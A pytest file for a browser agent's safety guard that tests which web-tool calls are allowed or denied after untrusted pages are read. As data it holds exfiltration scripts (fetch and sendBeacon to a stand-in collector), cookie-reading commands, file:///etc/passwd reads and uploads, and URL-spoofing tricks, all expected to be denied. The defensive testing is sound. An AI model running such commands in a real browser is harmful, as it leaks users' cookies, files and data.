"""What a call of the web tools would do, in words of the policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from genericagent.browser.wire import command_of
from genericagent.safety.guard import Guard
from genericagent.safety.policy import parse_rules

SHOP = {"id": "1", "url": "https://shop.example.org/basket", "used": 2.0}
BANK = {"id": "2", "url": "https://bank.example.net/", "used": 1.0}
LOCAL = {"id": "3", "url": "http://127.0.0.1:8000/", "used": 0.0}
TABS = [SHOP, BANK, LOCAL]
NEW = {"id": "9", "url": "https://new.example.com/", "used": 3.0}  # opened later


@pytest.fixture
def guard(tmp_path: Path) -> Guard:
    guard = Guard(origin="script")
    guard.user_said("buy it at https://www.example.org, my test server is http://127.0.0.1:8000")
    guard.rule("web_scan", {"_tab": SHOP, "_tabs": TABS}, tmp_path)  # the tabs there are belong to the user
    return guard


def ruled(guard: Guard, script: Any, tab: Any = SHOP, tool: str = "web_execute_js", **more: Any) -> str:
    args = {"script": script, "_command": command_of(script), "_tab": tab, "_tabs": [*TABS, NEW], **more}
    return guard.rule(tool, args, guard.zones.workspace).verdict


@pytest.mark.parametrize("tab", [SHOP, BANK, NEW, LOCAL, None])
@pytest.mark.parametrize(
    "script", ["el(1).click()", "fetch('https://else.example')", {"cmd": "jump", "url": "https://else.example"}]
)
def test_before_anything_was_read_the_browser_is_free(guard: Guard, tab: Any, script: Any) -> None:
    assert ruled(guard, script, tab) == "allow"
    assert ruled(guard, "", tab, "web_scan") == "allow"


def test_after_that_the_places_that_the_user_named_and_what_is_below_them_stay_free(guard: Guard) -> None:
    guard.outside("a page")
    assert [ruled(guard, "el(1).click()", tab) for tab in (SHOP, LOCAL, BANK, NEW)] == [
        "allow",
        "allow",
        "deny",
        "deny",
    ]
    for url, verdict in {
        "https://example.org/x": "allow", "pay.example.org": "allow", "https://notexample.org": "deny", "https://example.org.evil.net": "deny",
        "http://127.0.0.1:8000/x": "allow", "http://127.0.0.1:9/x": "deny", "http://localhost:8000": "deny", "http://127.0.0.1": "deny",
        "https://example.org@evil.net/": "deny", "https://EXAMPLE.org./": "allow", "data:text/html,x": "deny", "about:blank": "allow",
        "https://[::1]:8000/": "deny", "http://2130706433/": "deny",
    }.items():  # fmt: skip
        assert ruled(guard, {"cmd": "jump", "url": url}) == verdict, url


def test_what_only_looks_is_asked_about_in_a_tab_of_the_users_that_the_task_has_nothing_to_do_with(
    guard: Guard,
) -> None:
    guard.outside("a page")
    picture = {"cmd": "screenshot"}
    for tab, verdict in [(SHOP, "allow"), (NEW, "allow"), (BANK, "deny")]:
        assert ruled(guard, "", tab, "web_scan") == ruled(guard, picture, tab) == verdict
    assert ruled(guard, "", BANK, "web_scan", tabs_only=True) == "allow"
    guard.worked_in(
        "2", guard.rule("web_scan", {"_tab": SHOP, "_tabs": TABS}, guard.zones.workspace), ["https://bank.example.net"]
    )
    assert ruled(guard, "", BANK, "web_scan") == "allow"  # a page led there in the task's own tab
    assert ruled(guard, "el(1).click()", BANK) == "deny"


def test_where_the_task_was_before_is_known(guard: Guard) -> None:
    ruling = guard.rule(
        "web_execute_js", {"script": "1", "_command": None, "_tab": BANK, "_tabs": TABS}, guard.zones.workspace
    )
    guard.worked_in("2", ruling, [BANK["url"], "https://login.bank.example.com/"])
    guard.outside("a page")
    assert ruled(guard, "el(1).click()", BANK) == "allow"
    assert ruled(guard, {"cmd": "jump", "url": "https://login.bank.example.com/x"}) == "allow"


@pytest.mark.parametrize("method", ["POST", "fetch('https://collect.example.info', {method: 'POST'})"])
def test_a_script_that_sends_elsewhere_is_asked_about_from_the_start(guard: Guard, method: str) -> None:
    code = method if "(" in method else "navigator.sendBeacon('//collect.example.info/x', data)"
    assert ruled(guard, code) == "deny"
    assert ruled(guard, code.replace("collect.example.info", "shop.example.org")) == "allow"


@pytest.mark.parametrize("tainted", [False, True])
def test_credentials_and_the_browsers_own_matters_are_asked_about_always(guard: Guard, tainted: bool) -> None:
    if tainted:
        guard.outside("a page")
    for command in (
        {"cmd": "cookies"}, {"cmd": "cdp", "method": "Network.getCookies"}, {"cmd": "cdp", "method": "Storage.getCookies"},
        {"cmd": "cdp", "method": "Target.createTarget", "params": {"url": "https://example.org"}}, {"cmd": "cdp", "method": "Fetch.enable"},
        {"cmd": "cdp", "method": "Browser.setDownloadBehavior"}, {"cmd": "cdp", "method": "Page.setDownloadBehavior"}, {"cmd": "cdp"},
        {"cmd": "{{0.value}}"}, {"cmd": "batch", "steps": [{"cmd": "js", "code": "1"}, {"cmd": "cookies"}]},
        {"cmd": "jump", "url": "file:///etc/passwd"}, {"cmd": "jump", "url": "FILE:///etc/passwd"}, {"cmd": "jump", "url": "file://host/x"},
        {"cmd": "cdp", "method": "DOM.setFileInputFiles", "params": {"files": ["/etc/passwd"]}},
    ):  # fmt: skip
        assert ruled(guard, command) == "deny", command
    assert ruled(guard, {"cmd": "cdp", "method": "Input.dispatchKeyEvent", "params": {"key": "a"}}) == "allow"


def test_files_of_the_workspace_may_be_shown_and_handed_over(guard: Guard) -> None:
    file = str(guard.zones.workspace / "report.html")
    assert ruled(guard, {"cmd": "jump", "url": f"file://{file}"}) == "allow"
    assert ruled(guard, {"cmd": "cdp", "method": "DOM.setFileInputFiles", "params": {"files": [file]}}) == "allow"


def test_rules_of_the_user_speak_of_hosts_tools_and_commands(guard: Guard) -> None:
    tools = ["web_scan", "web_execute_js"]
    guard.outside("a page")
    guard.rules = parse_rules(
        ["send:bank.example.net", "control:cookies bank.example.net"], [], ["send:shop.example.org"], tools
    )
    assert ruled(guard, "el(1).click()", BANK) == "allow" == ruled(guard, {"cmd": "cookies"}, BANK)
    assert ruled(guard, "el(1).click()", SHOP) == "deny"
    guard.rules = parse_rules([], [], ["web_execute_js"], tools)
    assert ruled(guard, "1", LOCAL) == "deny"


def test_an_answer_for_the_conversation_is_for_that_place_alone(guard: Guard) -> None:
    guard.origin = "chat"
    guard.outside("a page")
    args = {"script": "el(1).click()", "_command": None, "_tab": BANK, "_tabs": TABS}
    ruling = guard.rule("web_execute_js", args, guard.zones.workspace)
    assert ruling.verdict == "ask" and "bank.example.net" in ruling.why
    guard.granted(ruling, "session")
    assert ruled(guard, "el(2).click()", BANK) == "allow"
    assert ruled(guard, "el(1).click()", NEW) == "ask"
    unknown = {"cmd": "batch", "steps": [{"cmd": "js", "code": "1"}, {"cmd": "jump", "url": "{{0.value}}"}]}
    guard.granted(
        guard.rule("web_execute_js", {"script": "", "_command": unknown, "_tab": SHOP}, guard.zones.workspace),
        "session",
    )
    other = {"cmd": "batch", "steps": [{"cmd": "js", "code": "2"}, {"cmd": "jump", "url": "{{0.value}}"}]}
    assert ruled(guard, other) == "ask"
